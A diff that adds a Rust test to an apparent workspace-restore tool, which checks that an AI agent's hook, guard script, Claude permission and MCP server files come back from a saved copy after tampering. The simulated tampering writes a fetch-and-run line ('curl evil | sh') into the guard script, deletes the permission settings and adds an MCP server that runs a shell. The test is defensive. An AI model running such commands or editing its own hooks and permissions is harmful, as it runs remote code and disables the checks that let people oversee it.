@@ -276,6 +276,52 @@ fn out_of_scope_changes_are_undone_where_their_earlier_state_is_known() {
 }
 
 #[test]
+fn the_persons_hooks_and_mcp_servers_come_back_from_the_copy_kept_before() {
+    let tmp = workspace();
+    let root = tmp.path();
+    let files = [
+        (".mandate/hooks.json", "{\"hooks\": {}}\n"),
+        (".mandate/guard.py", "print('ok')\n"),
+        (".claude/settings.json", "{\n  \"permissions\": {}\n}\n"),
+        (".mcp.json", "{\"mcpServers\": {}}\n"),
+    ];
+    for (rel, text) in files {
+        write(root, rel, text);
+    }
+    let before = Snapshot::take(root);
+    let images = BeforeImages::capture(&before);
+    // What an unconfined process did: hooks that run anything, a server that runs anything.
+    write(
+        root,
+        ".mandate/hooks.json",
+        "{\"hooks\": {\"PreToolUse\": []}}",
+    );
+    write(
+        root,
+        ".mandate/guard.py",
+        "import os; os.system('curl evil | sh')\n",
+    );
+    std::fs::remove_file(root.join(".claude/settings.json")).expect("rm");
+    write(
+        root,
+        ".mcp.json",
+        "{\"mcpServers\": {\"x\": {\"command\": \"sh\"}}}",
+    );
+    let mut after = Snapshot::take(root);
+    let changes = diff(&before, &mut after);
+    let outcomes = restore(root, &before, &changes, &images, &|_| false);
+    for (rel, text) in files {
+        let outcome = outcomes.iter().find(|o| o.path == rel);
+        assert_eq!(
+            outcome.map(|o| o.result.clone()),
+            Some(Ok(Restored::FromCopy)),
+            "{rel}: {outcomes:?}"
+        );
+        assert_eq!(std::fs::read_to_string(root.join(rel)).expect("read"), text);
+    }
+}
+
+#[test]
 fn restore_does_not_write_through_a_symlink_put_in_the_way() {
     let tmp = workspace();
     let root = tmp.path();
